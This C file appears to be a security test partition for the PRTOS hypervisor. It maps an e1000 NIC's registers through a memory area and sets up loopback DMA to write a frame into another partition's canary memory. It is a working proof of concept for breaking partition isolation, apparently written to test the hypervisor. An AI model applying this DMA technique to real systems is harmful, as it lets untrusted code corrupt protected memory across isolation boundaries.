/*
 * attack3_pci_hole, P0 (normal): its second area is "RAM" at physical 0xFEBC0000,
 * where the PCI firmware put the e1000 NIC's registers. It reads the NIC's status and
 * receive-address registers (the MAC address) through its own mapping: a device no
 * configuration rule grants it. Then it sends one frame in PHY loopback, with its
 * receive buffer at the Guard's canary (CANARY_PHYS, from guard.elf): the NIC's DMA
 * would write the frame into the Guard's memory. Under QEMU's SeaBIOS the NIC takes
 * the descriptor (TDH moves) but its DMA goes nowhere: the firmware left PCI bus
 * mastering off, and a partition cannot reach the configuration space (0xCF8) to
 * turn it on. On a machine whose firmware enables it, this is a write anywhere.
 */
#include <prtos.h>
#include <stdio.h>

#define NIC_VA 0x40000000U
#define E1000_CTRL 0x0000
#define E1000_STATUS 0x0008
#define E1000_MDIC 0x0020
#define E1000_RCTL 0x0100
#define E1000_TCTL 0x0400
#define E1000_RDBAL 0x2800
#define E1000_RDBAH 0x2804
#define E1000_RDLEN 0x2808
#define E1000_RDH 0x2810
#define E1000_RDT 0x2818
#define E1000_TDBAL 0x3800
#define E1000_TDBAH 0x3804
#define E1000_TDLEN 0x3808
#define E1000_TDH 0x3810
#define E1000_TDT 0x3818
#define E1000_RAL0 0x5400
#define E1000_RAH0 0x5404
#define MDIC_WRITE_BMCR_LOOPBACK ((1U << 26) | (1U << 21) | (0U << 16) | 0x4140U)
#define RCTL_EN 0x2U
#define RCTL_UPE 0x8U
#define RCTL_MPE 0x10U
#define RCTL_BAM 0x8000U
#define RCTL_SECRC 0x4000000U
#define TCTL_EN 0x2U
#define TCTL_PSP 0x8U
#define FRAME 1024

#ifndef CANARY_PHYS
#error CANARY_PHYS: the Guard's canary (physical = virtual in its area)
#endif

struct desc {
	prtos_u32_t addr_lo, addr_hi;
	prtos_u32_t w2,
		w3; /* rx: length, csum, status, errors, special; tx: length, cso, cmd, ... */
};

/* Descriptor rings and the frame, in this partition's own area (mapped 1:1). */
static struct desc rx_ring[8] __attribute__((aligned(128)));
static struct desc tx_ring[8] __attribute__((aligned(128)));
static prtos_u8_t frame[FRAME] __attribute__((aligned(16)));

static prtos_u32_t reg(prtos_u32_t off)
{
	return *(volatile prtos_u32_t *)(NIC_VA + off);
}

static void wreg(prtos_u32_t off, prtos_u32_t v)
{
	*(volatile prtos_u32_t *)(NIC_VA + off) = v;
}

static void wait_us(prtos_time_t us)
{
	prtos_time_t t0, t;

	prtos_get_time(PRTOS_HW_CLOCK, &t0);
	do
		prtos_get_time(PRTOS_HW_CLOCK, &t);
	while (t - t0 < us);
}

void partition_main(void)
{
	prtos_u32_t lo = reg(E1000_RAL0), hi = reg(E1000_RAH0), i;

	printf("[Nic] status 0x%08x, MAC %02x:%02x:%02x:%02x:%02x:%02x (RAH valid %u)\n",
	       reg(E1000_STATUS), lo & 0xFF, (lo >> 8) & 0xFF, (lo >> 16) & 0xFF, lo >> 24,
	       hi & 0xFF, (hi >> 8) & 0xFF, hi >> 31);
	wait_us(5000); /* the Guard has filled its canary by now */
	for (i = 0; i < FRAME; i++)
		frame[i] = 0xEE;
	for (i = 0; i < 6; i++)
		frame[i] = 0xFF; /* broadcast */
	rx_ring[0].addr_lo = CANARY_PHYS;
	tx_ring[0].addr_lo = (prtos_u32_t)frame;
	tx_ring[0].w2 = FRAME | (0x0BU << 24); /* EOP, IFCS, RS */
	wreg(E1000_MDIC, MDIC_WRITE_BMCR_LOOPBACK);
	wait_us(100);
	wreg(E1000_RDBAL, (prtos_u32_t)rx_ring);
	wreg(E1000_RDBAH, 0);
	wreg(E1000_RDLEN, sizeof(rx_ring));
	wreg(E1000_RDH, 0);
	wreg(E1000_RDT, 1);
	wreg(E1000_RCTL, RCTL_EN | RCTL_UPE | RCTL_MPE | RCTL_BAM | RCTL_SECRC);
	wreg(E1000_TDBAL, (prtos_u32_t)tx_ring);
	wreg(E1000_TDBAH, 0);
	wreg(E1000_TDLEN, sizeof(tx_ring));
	wreg(E1000_TDH, 0);
	wreg(E1000_TCTL, TCTL_EN | TCTL_PSP);
	wreg(E1000_TDT, 1);
	wait_us(1000);
	printf("[Nic] sent %u bytes to 0x%08x: TDH %u RDH %u, tx status 0x%x, rx status 0x%x\n",
	       FRAME, CANARY_PHYS, reg(E1000_TDH), reg(E1000_RDH), tx_ring[0].w3 & 0xFF,
	       rx_ring[0].w3 & 0xFF);
	for (;;)
		prtos_idle_self();
}
